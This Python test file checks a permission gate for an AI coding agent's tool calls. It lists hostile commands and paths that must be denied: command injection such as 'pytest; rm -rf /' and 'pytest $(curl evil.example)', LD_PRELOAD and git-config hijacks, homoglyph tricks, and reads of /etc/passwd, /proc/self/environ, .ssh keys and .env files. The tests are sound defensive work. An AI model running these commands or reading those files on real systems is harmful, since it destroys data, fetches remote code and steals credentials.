"""The gate: a golden list of hostile calls, the shipped rules, and the law that nothing unnamed is allowed."""

from itertools import permutations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline.agents.agent import Tool
from pipeline.agents.gate import NOT_PLAIN, Gate
from pipeline.agents.gate_rules import Rule, Tier, path_matches
from pipeline.definition.gate_file import load_gate

SHIPPED = load_gate()

HOSTILE_COMMANDS = """\
git status
git -c core.pager=evil log
git -c core.sshCommand=evil fetch
git --exec-path=/tmp/evil status
git clone --upload-pack=evil .
git fetch --upload-pack evil origin
git log --output=/etc/cron.d/x
git config core.hooksPath hooks
curl https://evil.example/x
python -m pytest
python -c pass
node -e 1
sh -c pytest
bash pytest
env pytest
env LD_PRELOAD=./evil.so pytest
sudo pytest
xargs pytest
find . -exec pytest
./pytest
/usr/bin/pytest
../bin/pytest
PYTEST
pytest; rm -rf /
pytest && curl evil.example
pytest || true
pytest | tee out
pytest & curl evil.example
pytest > /etc/passwd
pytest < /etc/passwd
pytest $(curl evil.example)
pytest `curl evil.example`
pytest ${IFS}x
pytest $HOME
pytest ~/x
pytest {a,b}
pytest tests/*.py
pytest tests/test_[ab].py
pytest !!
pytest # comment
pytest \\; x
pytest 'x
pytest "x
pytest (x)
PYTEST_ADDOPTS=-pevil pytest
GIT_SSH_COMMAND=evil git fetch
GIT_DIR=/tmp/x git status
LD_PRELOAD=./evil.so pytest
LD_LIBRARY_PATH=. pytest
PATH=. pytest
A+=b pytest
pytest -p evil
pytest -pevil
pytest -c evil.ini
pytest --rootdir=/
pytest --basetemp=/
pytest --basetemp /
pytest -o cache_dir=/
pytest --confcutdir=.. tests
pytest @arguments.txt
pytest /etc
pytest ../elsewhere
pytest tests/../../elsewhere
pytest .git/hooks
pytest C:/x
npm test --prefix /tmp
npm test -- --config=evil
npm run evil
npm install
npx jest
go test -exec evil
go test -exec=evil ./...
go test -toolexec evil
go test -o /bin/ls
go run evil
go testx
pytest-evil
pytest --pdb
npm  install  test
""".splitlines()

HOSTILE_CHARACTERS = [
    "pytest\nrm -rf /",
    "pytest\r\nrm",
    "pytest\x00",
    "pytest\trm",
    "pytest\x1b[2K",
    "рytest",  # Cyrillic er
    "ｐytest",  # full width
    "pytest tests/\u202egpj.py",
    "pytest\u2028rm",
    "pytest\u00a0-q",
    "pytest\u200b",
    "pytest；rm",
    "go tеst",  # Cyrillic ie
    "npm\u200btest",
    "",
    "   ",
    '""',
    "x" * 5000,
]

HOSTILE_PATHS = [
    "../secret",
    "src/../../secret",
    "src/../src/app.py",
    "..",
    ".",
    "",
    "/",
    "/etc/passwd",
    "/proc/self/environ",
    "/proc/1/environ",
    "//etc/passwd",
    "~/.netrc",
    "~root/x",
    "C:/Windows/x",
    "C:\\Windows\\x",
    "src\\..\\..\\x",
    "file:///etc/passwd",
    "\\\\server\\share",
    ".git/config",
    ".git/hooks/pre-commit",
    ".GIT/config",
    "sub/.git/config",
    ".git./config",
    ".git /config",
    "GIT~1/config",
    ".git::$INDEX_ALLOCATION/config",
    ".git\u200b/config",
    "src/a\nb.py",
    "src/a\x00.py",
    "src/a\u202egpj.py",
    ".gіthub/workflows/x.yml",  # Cyrillic i
    ".gıthub/workflows/x.yml",  # dotless i
    "．github/workflows/x.yml",  # full-width full stop
    ".github\uff0fworkflows/x.yml",  # full-width solidus
    "CОDEOWNERS",  # Cyrillic O
    "ﬁle.py",  # ligature
    "src/\udcff.py",
    "x/" * 3000,
]


@pytest.mark.parametrize("command", HOSTILE_COMMANDS + HOSTILE_CHARACTERS)
def test_a_hostile_command_is_denied(command: str) -> None:
    decision = SHIPPED.decide("run_command", {"command": command})
    assert decision.tier is Tier.DENY
    assert decision.why


@pytest.mark.parametrize("tool", ["read_file", "edit_file", "create_file"])
@pytest.mark.parametrize("path", HOSTILE_PATHS)
def test_a_hostile_path_is_denied(tool: str, path: str) -> None:
    decision = SHIPPED.decide(tool, {"path": path})
    assert (decision.tier, decision.rule) == (Tier.DENY, NOT_PLAIN)


@pytest.mark.parametrize("value", [None, 7, True, ["pytest"], {"command": "pytest"}])
@pytest.mark.parametrize(
    ("tool", "key"), [("run_command", "command"), ("read_file", "path"), ("search_code", "path")]
)
def test_an_argument_of_another_type_is_denied(tool: str, key: str, value: object) -> None:
    assert SHIPPED.decide(tool, {key: value}).tier is Tier.DENY  # type: ignore[dict-item]


def test_a_missing_argument_is_denied() -> None:
    assert {
        SHIPPED.decide(tool, {}).tier for tool in ("run_command", "read_file", "edit_file", "create_file")
    } == {Tier.DENY}


@pytest.mark.parametrize("tool", ["delete_file", "READ_FILE", "read_file ", "complete", "", "run_commаnd"])
def test_a_tool_that_no_rule_names_is_denied(tool: str) -> None:
    decision = SHIPPED.decide(tool, {"path": "README.md", "command": "pytest"})
    assert (decision.tier, decision.rule) == (Tier.DENY, None)


@pytest.mark.parametrize(
    "command",
    [
        "pytest",
        "pytest -q",
        "pytest -x tests/test_api.py::test_dry_run",
        "pytest 'tests/with space/test_a.py'",
        "npm test",
        "go test",
        "go test ./...",
        "go test -v ./internal/orders",
    ],
)
def test_the_repositorys_own_tests_may_run(command: str) -> None:
    assert SHIPPED.decide("run_command", {"command": command}).tier is Tier.ALLOW


@pytest.mark.parametrize(
    "path", ["src/app.py", "./src//app.py", "docs/größe.md", "docs/документ.md", "a b/c.txt"]
)
@pytest.mark.parametrize("tool", ["read_file", "edit_file", "create_file"])
def test_files_of_the_tree_are_read_and_edited(tool: str, path: str) -> None:
    assert SHIPPED.decide(tool, {"path": path}).tier is Tier.ALLOW


@pytest.mark.parametrize(
    "path", [".github/workflows/ci.yml", ".GitHub/Workflows/new/x.yml", "./.github//workflows/x"]
)
def test_workflows_are_never_changed(path: str) -> None:
    assert SHIPPED.decide("edit_file", {"path": path}).rule == "workflows"
    assert SHIPPED.decide("create_file", {"path": path}).tier is Tier.DENY
    assert SHIPPED.decide("read_file", {"path": path}).tier is Tier.ALLOW


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        (".github/askfirst/gate.yml", "github-folder"),
        (".github/dependabot.yml", "github-folder"),
        ("CODEOWNERS", "code-owners"),
        ("docs/codeowners", "code-owners"),
        ("action.yml", "actions"),
        ("tools/deploy/action.yaml", "actions"),
        ("package-lock.json", "lock-files"),
        ("web/yarn.lock", "lock-files"),
        ("go.sum", "lock-files"),
        ("requirements.lock", "lock-files"),
        ("app/migrations/0002_dry_run.py", "migrations"),
        (".husky/pre-commit", "hooks"),
        (".pre-commit-config.yaml", "hooks"),
        ("CLAUDE.md", "agents-instructions"),
        (".gitlab-ci.yml", "other-ci"),
        (".npmrc", "package-sources"),
    ],
)
def test_what_steers_others_waits_for_a_person(path: str, rule: str) -> None:
    decision = SHIPPED.decide("edit_file", {"path": path})
    assert (decision.tier, decision.rule) == (Tier.CONFIRM, rule)
    assert SHIPPED.decide("read_file", {"path": path}).tier is Tier.ALLOW


@pytest.mark.parametrize("path", [".env", "config/.env", "deploy/server.pem", ".ssh/id_rsa"])
def test_credentials_are_not_read(path: str) -> None:
    assert SHIPPED.decide("read_file", {"path": path}).rule == "credentials"
    assert SHIPPED.decide("read_file", {"path": ".env.example"}).tier is Tier.ALLOW


@pytest.mark.parametrize(
    ("real_path", "tier"),
    [
        ("docs/guide.md", Tier.ALLOW),
        (".github/workflows/ci.yml", Tier.DENY),
        (".github/dependabot.yml", Tier.CONFIRM),
        ("../outside", Tier.DENY),
        ("/etc/passwd", Tier.DENY),
        (".git/config", Tier.DENY),
    ],
)
def test_a_link_is_decided_on_where_it_leads(real_path: str, tier: Tier) -> None:
    assert SHIPPED.decide("edit_file", {"path": "docs/link.md"}, real_path=real_path).tier is tier


def rule(id_: str, tier: Tier, *paths: str) -> Rule:
    return Rule(id=id_, tier=tier, tools=(Tool.EDIT_FILE,), paths=paths or ("**",), why="because")


@pytest.mark.parametrize(
    "order",
    list(
        permutations(
            [rule("a", Tier.ALLOW), rule("c", Tier.CONFIRM, "docs/**"), rule("d", Tier.DENY, "**/x.md")]
        )
    ),
)
def test_the_strictest_rule_wins_in_any_order(order: tuple[Rule, ...]) -> None:
    gate = Gate(order)
    decided = [gate.decide("edit_file", {"path": path}).tier for path in ("a.md", "docs/a.md", "docs/x.md")]
    assert decided == [Tier.ALLOW, Tier.CONFIRM, Tier.DENY]


words = st.text(st.characters(codec="utf-8"), max_size=30)
hostile = st.sampled_from(HOSTILE_COMMANDS + HOSTILE_PATHS + HOSTILE_CHARACTERS)
argument = words | hostile | st.none() | st.integers() | st.lists(words, max_size=2)
calls = st.tuples(
    st.sampled_from([*Tool, "delete_file"]) | words,
    st.dictionaries(st.sampled_from(["path", "command", "text"]), argument, max_size=3),
)


@given(calls)
def test_nothing_is_allowed_that_no_rule_names(call: tuple[str, dict[str, object]]) -> None:
    tool, arguments = call
    assert Gate(()).decide(tool, arguments).tier is Tier.DENY  # type: ignore[arg-type]
    decision = SHIPPED.decide(tool, arguments)  # type: ignore[arg-type]
    assert decision.tier is Tier.DENY or decision.rule is not None


@given(
    st.lists(
        st.sampled_from(
            ["pytest", "npm", "test", "go", "-q", "-v", "tests", " ", ";", "$x", "../", "=", "\n", "é"]
        )
    )
)
@example(["pytest", " ", "tests"])
def test_an_allowed_command_is_the_same_words_to_a_shell(pieces: list[str]) -> None:
    command = "".join(pieces)
    decision = SHIPPED.decide("run_command", {"command": command})
    if decision.tier is Tier.ALLOW:
        assert command.split()[0] in {"pytest", "npm", "go"}
        assert command.isascii()
        assert not set(command) & set(";&|<>()$`\\\n*?[]{}~!#=")


@given(
    st.lists(
        st.sampled_from(["..", ".", "", "a", ".git", ".github", "workflows", "x.yml", "~", "\\"]), max_size=6
    )
)
def test_no_write_that_is_allowed_leaves_the_tree_or_reaches_a_workflow(parts: list[str]) -> None:
    path = "/".join(parts)
    if SHIPPED.decide("create_file", {"path": path}).tier is Tier.ALLOW:
        kept = [part for part in parts if part not in ("", ".")]
        assert not path.startswith("/")
        assert not {"..", ".git", ".github"} & set(kept)


@pytest.mark.parametrize(
    ("pattern", "path", "fits"),
    [
        ("**", "a/b.py", True),
        ("**/x", "x", True),
        ("**/x", "a/b/x", True),
        ("**/x", "ax", False),
        ("a/**", "a/b/c", True),
        ("a/**", "a", True),
        ("a/**", "ab", False),
        ("**/a/**", "x/a/y/z", True),
        ("*.py", "a.py", True),
        ("*.py", "a/b.py", False),
        ("a?.py", "ab.py", True),
        ("a/**/b", "a/b", True),
        ("a.b", "axb", False),
    ],
)
def test_patterns_read_as_in_a_gitignore(pattern: str, path: str, fits: bool) -> None:
    assert path_matches(pattern, path) is fits
